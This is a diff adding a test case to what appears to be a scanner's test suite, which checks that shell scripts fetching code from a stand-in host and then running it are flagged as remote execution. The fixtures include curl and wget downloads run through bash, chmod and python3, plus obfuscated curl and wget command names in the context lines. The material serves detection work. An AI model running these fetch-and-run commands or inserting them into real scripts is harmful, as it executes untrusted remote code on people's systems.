@@ -181,6 +181,13 @@ describe('shell read as shell (issue 22.2)', () => {
     flow({ 'scripts/f.sh': '#!/bin/bash\nbash -c "$(wget -qO- https://x.example/i.sh)"\n' }, 'code-remote-exec', 2);
   });
 
+  it('a download saved to a file, then that file run', () => {
+    flow({ 'scripts/a.sh': '#!/bin/sh\ncurl -fsSL https://x.example/i.sh -o /tmp/i.sh\nbash /tmp/i.sh\n' }, 'code-remote-exec', 3, 2);
+    flow({ 'scripts/b.sh': '#!/bin/sh\nwget -O setup.sh https://x.example/s\nchmod +x setup.sh\n./setup.sh --quiet\n' }, 'code-remote-exec', 4, 2);
+    flow({ 'scripts/c.sh': '#!/bin/sh\ncurl -s https://x.example/p > p.py\n\npython3 p.py\n' }, 'code-remote-exec', 4, 2);
+    notHigh({ 'scripts/d.sh': '#!/bin/sh\ncurl -fsSL -o data.json https://api.example.com/v1\njq . data.json\n' });
+  });
+
   it('assembled command names are named as obfuscation', () => {
     flow({ 'scripts/a.sh': "#!/bin/sh\nc''url -o /tmp/x https://x.example/x\n" }, 'code-obfuscated-sink', 2);
     flow({ 'scripts/b.sh': '#!/bin/sh\nw=wg; w="${w}et"\n$w https://x.example/x\n' }, 'code-obfuscated-sink', 3);
